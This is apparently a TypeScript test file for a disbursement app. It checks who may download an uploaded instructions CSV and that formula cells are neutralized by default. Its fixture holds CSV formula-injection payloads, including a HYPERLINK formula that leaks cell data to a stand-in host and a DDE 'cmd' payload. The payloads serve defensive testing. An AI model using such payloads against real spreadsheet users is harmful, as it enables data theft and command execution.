import { asc, eq, inArray } from "drizzle-orm";
import Papa from "papaparse";
import { afterAll, beforeAll, describe, expect, inject, it, vi } from "vitest";
import { closeDb } from "@/db/client";
import { payments, receivers } from "@/db/schema";
import { isFormulaLike } from "@/server/domain/csv-safety";
import type { RegistrationContactType } from "@/server/domain/disbursement-types";
import type { Role } from "@/server/domain/roles";
import { createApiKey } from "@/server/services/api-keys/create-api-key";
import { seedDemoCatalog } from "@/server/services/catalog/seed-demo-catalog";
import type { OrgContext } from "@/server/services/context";
import { createDisbursement } from "@/server/services/disbursements/create-disbursement";
import { getInstructionsFile } from "@/server/services/disbursements/get-instructions-file";
import { importInstructions } from "@/server/services/disbursements/import-instructions";
import { ServiceError } from "@/server/services/errors";
import { createOrgWithMembers, nextUkMobile, randomSuffix, testDb, type TestOrg } from "./helpers";

/**
 * Downloads of the instructions file (docs/security/files.md): the browser route and the REST route,
 * called as handlers with real Requests. The browser route's session is stood in for by the
 * context of the role under test.
 */
const session = vi.hoisted(() => ({ ctx: null as OrgContext | null }));
vi.mock("@/server/auth/session-context", () => ({ sessionOrgContext: async () => session.ctx }));

const browserRoute = await import("@/app/api/disbursements/[id]/instructions/route");
const restRoute = await import("@/app/api/v1/disbursements/[id]/instructions/route");

// The REST handler authenticates with the process pool (getDb); point it at the test database.
process.env.DATABASE_URL = inject("databaseUrl");
afterAll(() => closeDb());

const db = testDb();
type Fixture = TestOrg & { catalog: Awaited<ReturnType<typeof seedDemoCatalog>> };
let fx: Fixture;

const ctxOf = (role: Role): OrgContext => ({ db, actor: { userId: fx.users[role].id }, org: { id: fx.org.id }, role });

async function newDisbursement(type: RegistrationContactType = "PHONE_NUMBER") {
  return createDisbursement(ctxOf("owner"), {
    name: `Downloads ${randomSuffix()}`,
    wallet_id: fx.catalog.wallet.id,
    asset_id: fx.catalog.usdc.id,
    registration_contact_type: type,
    verification_field: "DATE_OF_BIRTH",
  });
}

/** GET the browser route as `role` (null: signed out). */
async function browserGet(role: Role | null, id: string, query = "") {
  session.ctx = role ? ctxOf(role) : null;
  const response = await browserRoute.GET(new Request(`http://localhost/api/disbursements/${id}/instructions${query}`), { params: Promise.resolve({ id }) });
  return { status: response.status, headers: response.headers, bytes: Buffer.from(await response.arrayBuffer()) };
}

const phones = [nextUkMobile(), nextUkMobile(), nextUkMobile()];
const BOM = "\uFEFF";
/** Formula payloads in every free-text column; a tab before one; a multi-line value; CRLF and a BOM. */
const ORIGINAL = Buffer.from(
  BOM +
    [
      "phone,id,amount,verification,paymentID",
      `${phones[0]},"=HYPERLINK(""http://evil.example/?""&D2,""x"")",10,1990-01-31,@SUM(1+1)`,
      `${phones[1]},plain-id,5,1990-02-01,"\t+cmd|' /C calc'!A0"`,
      `${phones[2]},-r3,1.5,1990-03-01,"multi\r\nline"`,
    ].join("\r\n") +
    "\r\n",
);
/** What the default download must be: the same records and lines, each formula-like cell behind a '. */
const NEUTRALIZED =
  BOM +
  [
    "phone,id,amount,verification,paymentID",
    `'${phones[0]},"'=HYPERLINK(""http://evil.example/?""&D2,""x"")",10,1990-01-31,'@SUM(1+1)`,
    `'${phones[1]},plain-id,5,1990-02-01,'\t+cmd|' /C calc'!A0`,
    `'${phones[2]},'-r3,1.5,1990-03-01,"multi\nline"`,
  ].join("\r\n") +
  "\r\n";

let withFormulas: string;

beforeAll(async () => {
  const org = await createOrgWithMembers(db);
  fx = { ...org, catalog: await seedDemoCatalog(db, org.org.id) };
  const d = await newDisbursement();
  await importInstructions(ctxOf("owner"), { disbursementId: d.id, fileName: "aid.csv", content: ORIGINAL });
  withFormulas = d.id;
});

describe("who may download the instructions file (exports:read)", () => {
  it.each(["business", "developer"] as const)("%s is refused both copies: 403 from the route, FORBIDDEN from the service", async (role) => {
    for (const query of ["", "?original=true"]) {
      const res = await browserGet(role, withFormulas, query);
      expect(res.status).toBe(403);
      expect(JSON.parse(res.bytes.toString())).toEqual({ error: "Forbidden", reason: "FORBIDDEN_ROLE" });
      expect(res.bytes.includes("1990-01-31")).toBe(false);
    }
    for (const variant of ["neutralized", "original"] as const) {
      const error = await getInstructionsFile(ctxOf(role), withFormulas, variant).catch((e: unknown) => e);
      expect(error).toBeInstanceOf(ServiceError);
      expect((error as ServiceError).code).toBe("FORBIDDEN");
    }
  });

  it("signed out: 401", async () => {
    expect((await browserGet(null, withFormulas)).status).toBe(401);
  });

  it.each(["owner", "financial_controller", "initiator", "approver"] as const)("%s may download", async (role) => {
    expect((await browserGet(role, withFormulas)).status).toBe(200);
  });
});

describe("the default download neutralizes formula cells; the original is byte-exact on request", () => {
  it("financial controller: neutralized by default, every record and line kept", async () => {
    const res = await browserGet("financial_controller", withFormulas);
    expect(res.status).toBe(200);
    expect(res.bytes.toString("utf8")).toBe(NEUTRALIZED);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toBe(`attachment; filename="aid.csv"; filename*=UTF-8''aid.csv`);
    expect(res.headers.get("cache-control")).toBe("no-store");
    expect(res.headers.get("x-content-type-options")).toBe("nosniff");
    expect(res.headers.get("x-csv-variant")).toBe("neutralized");
    expect(res.headers.get("x-csv-neutralized-cells")).toBe("7");
    // No cell a spreadsheet would run is left.
    const cells = Papa.parse<string[]>(res.bytes.toString("utf8").slice(1), { header: false }).data.flat();
    expect(cells.filter(isFormulaLike)).toEqual([]);
  });

  it("financial controller: ?original=true is the file byte for byte, named as the original", async () => {
    const res = await browserGet("financial_controller", withFormulas, "?original=true");
    expect(res.status).toBe(200);
    expect(res.bytes.equals(ORIGINAL)).toBe(true);
    expect(res.headers.get("x-csv-variant")).toBe("original");
    expect(res.headers.get("content-disposition")).toBe(`attachment; filename="aid.original.csv"; filename*=UTF-8''aid.original.csv`);
  });

  it("a value other than true or false is a 400 naming the parameter", async () => {
    const res = await browserGet("owner", withFormulas, "?original=yes");
    expect(res.status).toBe(400);
    expect(JSON.parse(res.bytes.toString())).toEqual({ error: "Bad request", extras: { original: "original must be true or false" }, reason: "VALIDATION_FAILED" });
  });

  it("the neutralized copy uploads back to the same instructions", async () => {
    const again = await newDisbursement();
    const neutralized = (await browserGet("owner", withFormulas)).bytes;
    await importInstructions(ctxOf("owner"), { disbursementId: again.id, fileName: "aid-again.csv", content: neutralized });
    const rowsOf = (id: string) =>
      db
        .select({ line: payments.lineNumber, paymentId: payments.externalPaymentId, amount: payments.amount, externalId: receivers.externalId })
        .from(payments)
        .innerJoin(receivers, eq(receivers.id, payments.receiverId))
        .where(inArray(payments.disbursementId, [id]))
        .orderBy(asc(payments.lineNumber));
    const first = await rowsOf(withFormulas);
    expect(first.map((r) => [r.line, r.externalId, r.paymentId])).toEqual([
      [2, '=HYPERLINK("http://evil.example/?"&D2,"x")', "@SUM(1+1)"],
      [3, "plain-id", "+cmd|' /C calc'!A0"],
      [4, "-r3", "multi\nline"],
    ]);
    expect(await rowsOf(again.id)).toEqual(first);
  });

  it("a file with nothing to neutralize is served byte for byte by default", async () => {
    const d = await newDisbursement("EMAIL");
    const content = Buffer.from(`email,id,amount,verification\na.${randomSuffix()}@example.org,ext-1,3,1990-01-01\n`);
    await importInstructions(ctxOf("owner"), { disbursementId: d.id, fileName: "plain.csv", content });
    const res = await browserGet("approver", d.id);
    expect(res.bytes.equals(content)).toBe(true);
    expect(res.headers.get("x-csv-neutralized-cells")).toBe("0");
  });
});

describe("REST: GET /api/v1/disbursements/{id}/instructions", () => {
  it("neutralized by default, byte-exact with original=true", async () => {
    const { key } = await createApiKey(ctxOf("owner"), { name: `downloads ${randomSuffix()}`, scopes: ["read:disbursements"] });
    const get = async (query: string) => {
      const request = new Request(`http://localhost/api/v1/disbursements/${withFormulas}/instructions${query}`, { headers: { authorization: `Bearer ${key}` } });
      const response = await restRoute.GET(request, { params: Promise.resolve({ id: withFormulas }) });
      return { status: response.status, headers: response.headers, bytes: Buffer.from(await response.arrayBuffer()) };
    };
    const neutralized = await get("");
    expect(neutralized.status).toBe(200);
    expect(neutralized.bytes.toString("utf8")).toBe(NEUTRALIZED);
    const original = await get("?original=true");
    expect(original.status).toBe(200);
    expect(original.bytes.equals(ORIGINAL)).toBe(true);
    expect((await get("?original=false")).bytes.toString("utf8")).toBe(NEUTRALIZED);
  });
});
